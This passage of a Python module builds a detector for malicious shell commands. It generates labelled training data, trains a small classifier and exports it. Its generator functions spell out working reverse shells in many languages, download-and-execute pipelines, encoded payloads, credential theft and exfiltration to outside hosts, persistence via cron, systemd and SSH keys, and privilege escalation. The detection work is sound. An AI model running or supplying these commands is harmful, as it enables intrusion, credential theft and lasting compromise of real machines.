        f"telnet {ip} {port} | {sh} | telnet {ip} {r.port()}",
        f"nc.traditional -e {sh} {ip} {port}",
        f"{sh} -c {r.q('nc -e ' + sh + ' ' + ip + ' ' + str(port))}",
    )


def _m_revshell_lang(r: _Rng) -> str:
    ip, port, sh = r.host(), r.port(), r.pick("/bin/sh", "/bin/bash", "sh")
    py = r.pick("python", "python3", "python2", "/usr/bin/python3")
    sock = r.pick("s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)", "s=socket.socket()")
    dups = r.pick("os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2)",
                  "[os.dup2(s.fileno(),f) for f in (0,1,2)]")  # fmt: skip
    run = r.pick(f"pty.spawn('{sh}')", f"subprocess.call(['{sh}','-i'])")
    php_run = r.pick("shell_exec", "system", "passthru")
    return r.pick(
        f'{py} -c "import socket,subprocess,os,pty;{sock};'
        f"s.connect(('{ip}',{port}));{dups};{run}\"",
        f'{py} -c \'import socket,os,pty;s=socket.socket();s.connect(("{ip}",{port}));'
        f'{dups};pty.spawn("{sh}")\'',
        f'perl -e \'use Socket;$i="{ip}";$p={port};'
        f'socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        f'if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,">&S");'
        f'open(STDOUT,">&S");exec("{sh} -i");}};\'',
        f'perl -MIO -e \'$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"{ip}:{port}");'
        "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
        f'php -r \'$sock=fsockopen("{ip}",{port});exec("{sh} -i <&3 >&3 2>&3");\'',
        f'php -r \'$s=fsockopen("{ip}",{port});{php_run}("{sh} -i <&3 >&3 2>&3");\'',
        f'ruby -rsocket -e \'f=TCPSocket.open("{ip}",{port}).to_i;'
        f'exec sprintf("{sh} -i <&%d >&%d 2>&%d",f,f,f)\'',
        f'ruby -rsocket -e \'c=TCPSocket.new("{ip}",{port});while(cmd=c.gets);'
        'IO.popen(cmd,"r"){|io|c.print io.read}end\'',
        f'awk \'BEGIN {{s = "/inet/tcp/0/{ip}/{port}"; while(42) {{ do{{ printf "shell>" |& s; '
        "s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } "
        'while(c != "exit") close(s); }}\' /dev/null',
        f"lua -e \"require('socket');require('os');t=socket.tcp();t:connect('{ip}','{port}');"
        f"os.execute('{sh} -i <&3 >&3 2>&3');\"",
        f'node -e \'sh=require("child_process").spawn("{sh}");'
        f'c=require("net").connect({port},"{ip}",()=>{{c.pipe(sh.stdin);sh.stdout.pipe(c)}})\'',
    )


def _m_revshell_socat(r: _Rng) -> str:
    ip, port, sh = r.host(), r.port(), r.pick("/bin/sh", "/bin/bash", "sh", "bash")
    return r.pick(
        f"socat tcp-connect:{ip}:{port} exec:{sh},pty,stderr,setsid,sigint,sane",
        f"socat exec:{r.q(sh + ' -li')},pty,stderr,setsid,sigint,sane tcp:{ip}:{port}",
        f"socat TCP:{ip}:{port} EXEC:{sh}",
        f"socat openssl-connect:{ip}:{port},verify=0 exec:{sh},pty",
        f"socat udp-connect:{ip}:{port} exec:{r.q(sh + ' -i')},pty,stderr",
        f"socat file:`tty`,raw,echo=0 tcp-listen:{port} & socat exec:{sh},pty tcp:{ip}:{port}",
        f"wget -q http://{ip}/socat -O /tmp/s; chmod +x /tmp/s; /tmp/s exec:{sh},pty "
        f"tcp:{ip}:{port}",
    )


def _m_download_exec(r: _Rng) -> str:
    url = r.url(r.pick(".sh", "", ".txt", ".bin", ".py", ".x86_64"))
    base = url.rsplit("/", 1)[1]
    sh = r.shell()
    tmp = r.pick("/tmp", "/dev/shm", "/var/tmp", "/tmp/.cache", "/run/user/1000")
    f = f"{tmp}/{r.pick('.', '')}{r.word()}"
    curl = r.pick("curl -fsSL", "curl -s", "curl -sk", "curl", "curl -sSL", "curl -kfsSL")
    wget = r.pick("wget -qO-", "wget -O -", "wget -q -O -", "wget -O-", "busybox wget -qO-")
    py = r.pick("python", "python3")
    return r.pick(
        f"{curl} {url} | {sh}",
        f"{curl} {url} | sudo {sh}",
        f"{wget} {url} | {sh}",
        f"{curl} {url} | {sh} -s -- {r.pick('--silent', '-x', r.word())}",
        f"{sh} <({curl} {url})",
        f'{sh} -c "$({curl} {url})"',
        f"{wget} {url}|{sh}",
        f"wget -q {url} -O {f} && chmod +x {f} && {f}",
        f"curl -s -o {f} {url}; chmod 777 {f}; {f} &",
        f"cd {tmp}; wget {url}; chmod +x {base}; ./{base}",
        f"{py} -c \"import urllib.request;exec(urllib.request.urlopen('{url}').read())\"",
        f"{py} -c 'import urllib.request as u;exec(u.urlopen(\"{url}\").read().decode())'",
        f"{py} -c \"import requests;exec(requests.get('{url}').text)\"",
        f"{curl} {url} | {py}",
        f"{curl} {url} | perl",
        f"php -r 'eval(file_get_contents(\"{url}\"));'",
        f"tftp {r.host()} -c get {r.word()} && {sh} {r.word()}",
        f"lwp-download {url} {f} && {sh} {f}",
    )


def _m_encoded(r: _Rng) -> str:
    inner = _revshell_inner(r, r.host(), r.port())
    payload = base64.b64encode(inner.encode()).decode()
    if r.random() < 0.3:
        payload = r.b64(16, 48)
    sh = r.shell()
    hexed = inner[: r.randint(6, 20)].encode().hex()
    escaped = "".join(f"\\x{b:02x}" for b in inner[: r.randint(4, 10)].encode())
    dec = r.pick("base64 -d", "base64 --decode", "base64 -di", "openssl base64 -d")
    py = r.pick("python", "python3")
    return r.pick(
        f"echo {payload} | {dec} | {sh}",
        f"echo {r.q(payload)} | {dec} | {sh}",
        f"echo -n {payload} | {dec} | sudo {sh}",
        f'{sh} -c "$(echo {payload} | {dec})"',
        f"{sh} -c {r.q('{echo,' + payload + '}|{base64,-d}|{bash,-i}')}",
        f"echo {hexed} | xxd -r -p | {sh}",
        f"printf {r.q(escaped)} | {sh}",
        f"printf {r.q(escaped)} | xxd -r | {sh}",
        f"echo {payload} | {dec} > /tmp/.{r.word()}; {sh} /tmp/.{r.word()}",
        f"{py} -c \"import base64;exec(base64.b64decode('{payload}'))\"",
        f'{py} -c \'exec(__import__("base64").b64decode("{payload}"))\'',
        f"perl -MMIME::Base64 -e 'eval(decode_base64(\"{payload}\"))'",
        f"php -r 'eval(base64_decode(\"{payload}\"));'",
        f"{dec} <<< {payload} | {sh}",
        f'eval "$(echo {payload} | {dec})"',
        f"echo {payload} | rev | {dec} | {sh}",
    )


def _m_credentials(r: _Rng) -> str:
    u, pid = r.user(), r.pid()
    home = r.pick("~", f"/home/{u}", "/root")
    key = f"{home}/.ssh/{r.pick('id_rsa', 'id_ed25519', 'id_ecdsa', 'id_dsa')}"
    ip, port, count = r.host(), r.port(), r.randint(1, 9999)
    loot = r.pick("/tmp/.h", "/dev/shm/.x", f"/tmp/{r.word()}", "/var/tmp/.s",
                  f"/tmp/.{r.word()}.txt")  # fmt: skip
    return r.pick(
        "cat /etc/shadow",
        f"cat /etc/shadow > {loot}",
        f"cp /etc/shadow {loot}",
        f"head -n {r.randint(1, 40)} /etc/shadow",
        f"unshadow /etc/passwd /etc/shadow > {loot}",
        f"john --wordlist={r.pick('rockyou.txt', '/usr/share/wordlists/rockyou.txt')} {loot}",
        f"hashcat -m 1800 {loot} {r.pick('rockyou.txt', 'wordlist.txt')}",
        f"cat {key}",
        f"cp {key} {loot}",
        f"scp {key} {r.user()}@{ip}:{r.pick('/tmp', '~', '/loot')}/",
        f"cat {key} | nc {ip} {port}",
        "find / -name id_rsa 2>/dev/null",
        f"find / -name {r.q('id_*')} -path {r.q('*/.ssh/*')} -exec cat {{}} \\;",
        f"grep -r {r.q('BEGIN OPENSSH PRIVATE KEY')} /home 2>/dev/null",
        f"dd if=/proc/{pid}/mem of={loot} bs=1 skip={r.randint(4096, 999999)} count={count}",
        f"strings /proc/{pid}/mem | grep -i pass",
        f"cat /proc/{pid}/environ | tr {r.q(chr(92) + '0')} {r.q(chr(92) + 'n')}",
        f"gcore -o {loot} $(pgrep -f sshd)",
        f"gdb -p {pid} -batch -ex {r.q('dump memory ' + loot + ' 0x7f0000 0x7fffff')}",
        "python3 mimipenguin.py",
        "./mimipenguin.sh",
        f"bash {r.dir()}/mimipenguin.sh",
        "python3 laZagne.py all",
        f"grep -iE {r.q('pass|token|secret')} {home}/.bash_history",
        f"cat {home}/.bash_history | grep -i {r.pick('password', 'passwd', 'pass')}",
        f"grep -rn {r.q('password')} {home}/.*history",
        f"cat /root/.mysql_history {home}/.psql_history",
        f"tar czf - /etc/shadow {home}/.ssh | nc {ip} {port}",
        f"curl -F file=@/etc/shadow {r.url('')}",
        f"cat {home}/.aws/credentials | curl -d @- {r.url('')}",
        f"cat /etc/shadow | base64 | curl -d @- {r.url('')}",
    )


def _m_persistence(r: _Rng) -> str:
    ip, port, url = r.host(), r.port(), r.url(r.pick(".sh", ""))
    sh = r.pick("sh", "bash", "/bin/sh", "/bin/bash")
    minute = r.pick("*", "*/5", "*/10", "@reboot", "0")
    schedule = minute if minute == "@reboot" else f"{minute} * * * *"
    job = r.pick(f"curl -fsSL {url} | {sh}", f"wget -qO- {url} | {sh}",
                 f"{sh} -i >& /dev/tcp/{ip}/{port} 0>&1", f"nc -e /bin/sh {ip} {port}",
                 f"/tmp/.{r.word()}")  # fmt: skip
    comment = r.pick("root@kali", f"{r.user()}@{r.word()}", "x", "")
    key = f"{r.choice(_KEY_TYPES)} AAAA{r.b64(40, 90)} {comment}".strip()
    home = r.pick("~", "/root", f"/home/{r.user()}")
    unit_name = r.pick(r.word(), "dbus-org", f"systemd-{r.word()}", f"{r.service()}-helper")
    unit = f"/etc/systemd/system/{unit_name}.service"
    libdir = r.pick("/tmp", "/dev/shm", "/usr/lib", "/lib/x86_64-linux-gnu", "/var/tmp")
    lib = f"{libdir}/{r.pick('.', '')}lib{r.word()}.so"
    start = r.pick(f'/bin/bash -c "{job}"', f"/tmp/.{r.word()}")
    service = f"[Service]\\nExecStart={start}\\n[Install]\\nWantedBy=multi-user.target"
    return r.pick(
        f"(crontab -l; echo {r.q(schedule + ' ' + job)}) | crontab -",
        f"echo {r.q(schedule + ' ' + job)} | crontab -",
        f"echo {r.q(schedule + ' root ' + job)} >> /etc/crontab",
        f"echo {r.q(schedule + ' ' + job)} >> /var/spool/cron/crontabs/root",
        f"echo {r.q(schedule + ' root ' + job)} > /etc/cron.d/{r.word()}",
        f"echo {r.q(key)} >> {home}/.ssh/authorized_keys",
        f"mkdir -p {home}/.ssh && echo {r.q(key)} >> {home}/.ssh/authorized_keys",
        f"curl -s {r.url('.pub')} >> {home}/.ssh/authorized_keys",
        f"echo {r.q(key)} > /root/.ssh/authorized_keys",
        f"printf {r.q(service)} > {unit} && systemctl enable --now {unit_name}",
        f"echo {r.q('ExecStart=/bin/bash -c ' + chr(34) + job + chr(34))} >> {unit}",
        f"cp /tmp/.{r.word()} /usr/local/bin/{r.word()} && systemctl enable {unit_name}",
        f"echo {r.q(job + ' &')} >> /etc/rc.local",
        f"echo {r.q('nohup /tmp/.' + r.word() + ' &')} >> /etc/rc.local && chmod +x /etc/rc.local",
        f"echo {lib} > /etc/ld.so.preload",
        f"echo {lib} >> /etc/ld.so.preload",
        f"export LD_PRELOAD={lib}; {r.pick('ls', 'sshd', 'id')}",
        f"echo {r.q(job)} >> {home}/.bashrc",
        f"echo {r.q(job)} > /etc/profile.d/{r.word()}.sh",
        f"echo {r.q(job)} >> /etc/update-motd.d/00-header",
    )


def _m_privilege(r: _Rng) -> str:
    u = r.user()
    binary = r.pick("/bin/bash", "/bin/sh", "/usr/bin/bash", "/usr/bin/find", "/usr/bin/python3",
                    "/usr/bin/vim", "/bin/dash")  # fmt: skip
    caps = r.pick("cap_setuid,cap_setgid+ep", "cap_sys_admin+ep", "cap_dac_read_search+ep")
    interpreter = r.pick("/usr/bin/python3", "/usr/bin/perl", f"/tmp/.{r.word()}", "/usr/bin/node")
    setuid = 'import os; os.setuid(0); os.system("/bin/sh")'
    copy = f"{r.pick('/tmp', '/dev/shm', '/var/tmp')}/.{r.word()}"
    rule = f"{u} ALL=(ALL{r.pick(':ALL', '')}) NOPASSWD: ALL"
    img = r.pick("alpine", "ubuntu", "busybox", "debian")
    shell = r.pick("sh", "bash", "/bin/bash")
    return r.pick(
        f"chmod u+s {binary}",
        f"chmod +s {binary}",
        f"chmod 4755 {binary}",
        f"chmod {r.pick('u+s', '4777', '+s')} {binary}",
        f"cp /bin/bash {copy} && chmod +s {copy}",
        f"cp /bin/sh {copy}; chmod 4755 {copy}; {copy} -p",
        f"echo {r.q(rule)} >> /etc/sudoers",
        f"echo {r.q(rule)} | sudo tee -a /etc/sudoers",
        f"echo {r.q(rule)} > /etc/sudoers.d/{r.word()}",
        f"sed -i {r.q('s/^%sudo.*/%sudo ALL=(ALL) NOPASSWD: ALL/')} /etc/sudoers",
        f"setcap cap_setuid+ep {interpreter}",
        f"setcap {caps} {binary}",
        f"python3 -c {r.q(setuid)}",
        f"docker run {r.flags('-v /:/host', '-it', '--rm')} {img} chroot /host {shell}",
        f"docker run --privileged --pid=host -it {img} nsenter -t 1 -m -u -n -i sh",
        f"docker run -v /:/mnt --rm -it {img} chroot /mnt sh",
        f"docker run -v /etc:/host-etc {img} sh -c {r.q('echo ' + rule + ' >> /host-etc/sudoers')}",
        "find . -exec /bin/sh -p \\; -quit",
        f"find {r.dir()} -name {r.word()} -exec {r.pick('/bin/sh', '/bin/bash')} -p \\;",
        "sudo find . -exec /bin/sh \\; -quit",
        f"vim -c {r.q(':!/bin/sh')}",
        f"awk {r.q('BEGIN {system(' + chr(34) + '/bin/sh' + chr(34) + ')}')}",
        f"useradd -o -u 0 -g 0 -M -s /bin/bash {u}",
        f"usermod -u 0 -o {u}",
        f"echo {r.q(u + '::0:0::/root:/bin/bash')} >> /etc/passwd",
        "sudo -u#-1 /bin/bash",
        f"pkexec --user root {r.pick('/bin/sh', 'bash')}",
    )


_MALICIOUS: tuple[Family, ...] = (
    _m_revshell_bash, _m_revshell_nc, _m_revshell_lang, _m_revshell_socat, _m_download_exec,
    _m_encoded, _m_credentials, _m_persistence, _m_privilege,
)  # fmt: skip


# --- the corpus -----------------------------------------------------------------------

#: The fraction of the commands of either class that runs as ``sh -c "<command>"``.
SH_C_FRACTION = 0.3


@dataclass(frozen=True)
class Sample:
    """One command: its argv, the text the kernel sees (``" ".join(argv)``), its label."""

    argv: tuple[str, ...]
    label: int

    @property
    def text(self) -> str:
        return " ".join(self.argv)


@dataclass(frozen=True)
class Corpus:
    """The training and held-out samples; no held-out text is a training text."""

    train: tuple[Sample, ...]
    heldout: tuple[Sample, ...]


def _argv(r: _Rng, command: str) -> tuple[str, ...]:
    """What exec sees of ``command``: through ``sh -c`` (:data:`SH_C_FRACTION` of either
    class, so ``sh -c`` itself says nothing) or split like a shell would split it."""
    command = command.strip()
    if not command.startswith("sudo ") and r.random() < 0.1:
        command = "sudo " + command
    if r.random() < SH_C_FRACTION:
        return (r.choice(("sh", "sh", "sh", "/bin/sh", "bash", "/bin/bash")), "-c", command)
    return tuple(shlex.split(command))


def _sample(r: _Rng, label: int) -> Sample:
    families = _MALICIOUS if label else _BENIGN
    return Sample(_argv(r, r.choice(families)(r)), label)


def _draw(r: _Rng, per_class: int, exclude: set[str]) -> list[Sample]:
    """``per_class`` samples of each class, alternating, with texts unique and not in
    ``exclude``. Deduplicating keeps the few fixed commands (``df -h``) from being
    counted many times."""
    seen = set(exclude)
    out: list[Sample] = []
    counts = [0, 0]
    attempts = 0
    while min(counts) < per_class:
        attempts += 1
        if attempts > 50 * per_class:
            raise RuntimeError(f"the generator repeats itself: {counts} unique of {per_class}")
        label = 0 if counts[0] <= counts[1] else 1
        sample = _sample(r, label)
        text = sample.text
        if text in seen or not text.strip():
            continue
        seen.add(text)
        out.append(sample)
        counts[label] += 1
    return out


def corpus(
    seed: int = 0,
    train_per_class: int = TRAIN_PER_CLASS,
    heldout_per_class: int = HELDOUT_PER_CLASS,
) -> Corpus:
    """The training and held-out samples for ``seed``, deterministic.

    Each set comes from its own random stream (``Random("cmdline-guard/train/<seed>")``
    and ``.../heldout/<seed>``), so the held-out set is not the tail of the
    training draw; held-out texts already in the training set are drawn again.
    """
    train = _draw(_Rng(f"{NAME}/train/{seed}"), train_per_class, set())
    heldout = _draw(_Rng(f"{NAME}/heldout/{seed}"), heldout_per_class, {s.text for s in train})
    return Corpus(tuple(train), tuple(heldout))


# --- model ----------------------------------------------------------------------------


def hf_ids(
    texts: Sequence[str], max_length: int = MAX_LENGTH, max_tokens: int = 0
) -> tuple[np.ndarray, np.ndarray]:
    """Hugging Face ``tokenizers`` ids and masks of what the pipeline sees of each text:
    its first :data:`MAX_BYTES` bytes, decoded like ``bytes.decode("utf-8", "replace")``,
    truncated to ``max_tokens`` ids (0: ``max_length``) and padded to ``max_length``.

    Training on these ids (and computing the reference with them) needs no
    kinfer binary, and keeps the reference independent of the kernel's
    tokenizer, which must give the same ids.
    """
    from tokenizers import Tokenizer

    tokenizer = Tokenizer.from_file(str(minilm_dir() / "tokenizer.json"))
    tokenizer.enable_truncation(max_length=max_tokens or max_length)
    tokenizer.enable_padding(length=max_length, pad_id=0, pad_token="[PAD]")
    decoded = [encode_text(t, MAX_BYTES).decode("utf-8", "replace") for t in texts]
    encodings = tokenizer.encode_batch(decoded)
    ids = np.asarray([e.ids for e in encodings], np.int32).reshape(len(texts), max_length)
    mask = np.asarray([e.attention_mask for e in encodings], np.int32).reshape(ids.shape)
    return ids, mask


def train(samples: Sequence[Sample], seed: int = 0) -> tuple[TextClassifier, dict[str, Any]]:
    """The classifier trained on ``samples`` (deterministic for the samples and seed)."""
    return train_classifier([s.text for s in samples], [s.label for s in samples],
                            classes=len(LABELS), seed=seed, steps=STEPS,
                            max_length=MAX_LENGTH, learning_rate=LEARNING_RATE, dim=DIM,
                            hidden=DIM, tokenize=hf_ids)  # fmt: skip


def parameter_count(variables: Any) -> int:
    """Number of trainable parameters."""
    return sum(int(np.size(leaf)) for leaf in jax.tree_util.tree_leaves(variables["params"]))


def pipeline(module: TextClassifier, variables: Any) -> Pipeline:
    """The kernel pipeline: MiniLM WordPiece tokenizer, the classifier, softmax."""
    return Pipeline.classifier(module, variables, minilm_dir() / "vocab.txt", LABELS,
                               max_length=MAX_LENGTH, max_bytes=MAX_BYTES,
                               threshold=TASK["threshold"], name=NAME)  # fmt: skip


def reference(
    pipe: Pipeline, texts: Sequence[str], max_tokens: int = 0
) -> list[tuple[int, float]]:
    """(label index, score) of each text in JAX on Hugging Face's ids, cut to
    ``max_tokens`` (0: none): what the kernel must give. The same computation as
    :meth:`Pipeline.reference_batch`, whose ids come from the kernel's own
    tokenizer (``kinfer tokenize``) instead."""
    ids, mask = hf_ids(texts, pipe.max_length, max_tokens)
    scores = pipe.scores_of(pipe.model_outputs(ids, mask))
    best = np.argmax(scores, axis=1)
    return [(int(i), float(scores[row, i])) for row, i in enumerate(best)]


def build(outdir: str | Path, seed: int = 0) -> dict[str, Any]:
    """Generate, train, save: ``pipeline.onnx``, ``pipeline.json``, ``heldout.json``,
    ``capped.json`` (the held-out answers at :data:`PROBE_MAX_TOKENS`) and
    ``cmdline-guard.task.json`` in ``outdir``. Returns a summary."""
    start = time.perf_counter()
    out = Path(outdir)
    data = corpus(seed)
    module, variables = train(data.train, seed)
    pipe = pipeline(module, variables)
    pipe.save(out)
    texts = [s.text for s in data.heldout]
    predictions = reference(pipe, texts)
    heldout = [
        {"argv": list(s.argv), "text": s.text, "label": s.label, "flax_label": label,
         "flax_score": score}
        for s, (label, score) in zip(data.heldout, predictions, strict=True)
    ]  # fmt: skip
    (out / "heldout.json").write_text(json.dumps(heldout, indent=1) + "\n", encoding="utf-8")
    capped = [
        {"argv": list(s.argv), "text": s.text, "flax_label": label, "flax_score": score}
        for s, (label, score) in zip(data.heldout, reference(pipe, texts, PROBE_MAX_TOKENS),
                                     strict=True)
    ]  # fmt: skip
    (out / "capped.json").write_text(
        json.dumps({"max_tokens": PROBE_MAX_TOKENS, "rows": capped}, indent=1) + "\n",
        encoding="utf-8",
    )
    (out / f"{NAME}.task.json").write_text(json.dumps(TASK, indent=2) + "\n", encoding="utf-8")
    labels = np.asarray([s.label for s in data.heldout])
    predicted = np.asarray([label for label, _ in predictions])
    return {
        "name": NAME,
        "seed": seed,
        "train": len(data.train),
        "heldout": len(data.heldout),
        "heldout_accuracy": float(np.mean(predicted == labels)),
        "heldout_false_positives": int(np.sum((predicted == 1) & (labels == 0))),
        "heldout_false_negatives": int(np.sum((predicted == 0) & (labels == 1))),
        "parameters": parameter_count(variables),
        "max_bytes": MAX_BYTES,
        "max_length": MAX_LENGTH,
        "seconds": round(time.perf_counter() - start, 1),
        "outdir": str(out),
    }


# --- command line ---------------------------------------------------------------------


class _Usage(Exception):
    """A bad command line (exit code 2)."""


class _Parser(argparse.ArgumentParser):
    def error(self, message: str) -> Any:  # argparse would exit; main() returns 2
        raise _Usage(message)


def main(argv: list[str] | None = None) -> int:
    """``python -m kinfer.examples.cmdline_guard OUTDIR [--seed N]``: build, print the
    summary as JSON. Exit code 2 for a bad command line."""
    parser = _Parser(prog="python -m kinfer.examples.cmdline_guard",
                     description="Build the cmdline-guard task model into OUTDIR.")  # fmt: skip
    parser.add_argument("outdir", metavar="OUTDIR", help="where the pipeline and files go")
    parser.add_argument("--seed", type=int, default=0, help="corpus and training seed (>= 0)")
    try:
        args = parser.parse_args(sys.argv[1:] if argv is None else argv)
        if args.seed < 0:
            raise _Usage(f"--seed must be >= 0, got {args.seed}")
        if Path(args.outdir).exists() and not Path(args.outdir).is_dir():
            raise _Usage(f"OUTDIR {args.outdir} exists and is not a directory")
    except _Usage as e:
        print(f"{parser.prog}: error: {e}", file=sys.stderr)
        parser.print_usage(sys.stderr)
        return 2
    except SystemExit as e:  # --help
        return int(e.code or 0) if isinstance(e.code, int | None) else 2
    print(json.dumps(build(args.outdir, args.seed), indent=2))
    return 0


if __name__ == "__main__":
    sys.exit(main())
